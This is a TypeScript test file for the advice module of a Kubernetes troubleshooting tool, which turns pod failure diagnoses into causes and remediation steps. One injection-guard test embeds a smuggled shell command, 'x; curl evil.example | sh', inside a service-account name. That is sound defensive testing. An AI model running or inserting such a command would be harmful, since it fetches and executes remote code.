import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CAUSE_CODES, adviceSchema } from '@/lib/model';
import { loadFixture, ofKind } from '../testing/load';
import { adviceOn, NO_DETAILS, type Diagnosis } from '.';

const object = { cluster: 'prod-eu', kind: 'Pod', namespace: 'shop', name: 'cart-1', uid: 'uid' };
const workload = { ...object, kind: 'Deployment', name: 'cart' };
const bare: Omit<Diagnosis, 'code'> = { ...NO_DETAILS, object, namespace: 'shop' };

describe('advice', () => {
  it.each(CAUSE_CODES)('is a sentence and steps for %s, whatever Kubernetes reports', (code) => {
    const [pod = null] = ofKind(loadFixture('fixtures/healthy.yaml'), 'Pod');
    fc.assert(
      fc.property(fc.string(), fc.boolean(), (detail, whole) => {
        const more = whole ? { pod, container: 'payments', workload, image: 'registry.example/cart:1' } : {};
        const advice = adviceOn({ ...bare, ...more, code, detail: `it said ${detail}` });
        expect(adviceSchema.safeParse(advice).success).toBe(true);
        expect(advice.cause).toMatch(/^[^a-z].*\.$/su);
        expect(advice.steps.length).toBeGreaterThan(0);
      }),
      { numRuns: 30 },
    );
  });

  it('offers the rollback first and the document last', () => {
    const before = { revision: 7, version: '3.9.4' };
    const { steps } = adviceOn({ ...bare, code: 'crash-loop', workload, before, detail: 'exit code 1' });
    expect(steps.map(({ label }) => label)).toEqual([
      'Roll back to 3.9.4',
      'Events of Pod cart-1',
      'Find out why a pod does not run',
    ]);
    expect(steps[0]).toEqual({
      type: 'change',
      label: 'Roll back to 3.9.4',
      action: 'rollback',
      target: { cluster: 'prod-eu', namespace: 'shop', kind: 'Deployment', name: 'cart' },
      params: { revision: 7 },
    });
  });

  it('explains a crash by its exit code and message, never by the text of the detail', () => {
    const crash = (exit: Diagnosis['exit']) =>
      adviceOn({ ...bare, code: 'crash-loop', container: 'web', detail: 'exit code 3: no', exit }).cause;
    expect(crash({ code: 127, message: null })).toBe(
      'Container web ends with exit code 127, which means that its command is not in the image.',
    );
    expect(crash({ code: 2, message: 'exit code 5' })).toBe(
      'Container web ends by itself with exit code 2: exit code 5.',
    );
    expect(crash(null)).toBe('Container web keeps ending; Kubernetes no longer knows its exit code.');
  });

  it('names the startup probe where that one fails', () => {
    const probe = { probe: 'startup', answer: 'connection refused' } as const;
    expect(adviceOn({ ...bare, code: 'liveness', container: 'web', probe }).cause).toBe(
      'Container web does not pass its startup probe, so the kubelet kills and restarts it.',
    );
  });

  it('looks at permissions only where the API server refuses the credentials', () => {
    const labels = (denied: boolean) =>
      adviceOn({ ...bare, code: 'unread', detail: 'pods is forbidden', denied }).steps.map(
        ({ label }) => label,
      );
    expect(labels(true)).toContain('What these credentials may do');
    expect(labels(false)).toContain('Ask the API server whether it is ready');
  });

  it('offers no Change of what Pilothouse cannot change', () => {
    const before = { revision: 7, version: '3.9.4' };
    const job = { ...object, kind: 'Job', name: 'import' };
    const { steps } = adviceOn({ ...bare, code: 'crash-loop', workload: job, before });
    expect(steps.map(({ type }) => type)).not.toContain('change');
  });

  it('offers no command that a shell would take for more than one', () => {
    const detail =
      'error looking up service account shop/x: serviceaccount "x; curl evil.example | sh" not found';
    const { steps } = adviceOn({ ...bare, code: 'create-failed', detail });
    expect(JSON.stringify(steps.filter(({ type }) => type === 'command'))).not.toContain('curl');
    const plain = adviceOn({ ...bare, code: 'create-failed', detail: 'serviceaccount "cart" not found' });
    expect(JSON.stringify(plain.steps)).toContain('kubectl create serviceaccount cart -n shop');
  });

  it('names only pages of Kubernetes’ own documentation', () => {
    for (const code of CAUSE_CODES) {
      for (const step of adviceOn({ ...bare, code }).steps) {
        if (step.type === 'document') expect(step.url).toMatch(/^https:\/\/kubernetes\.io\/docs\/[a-z]/u);
      }
    }
  });
});
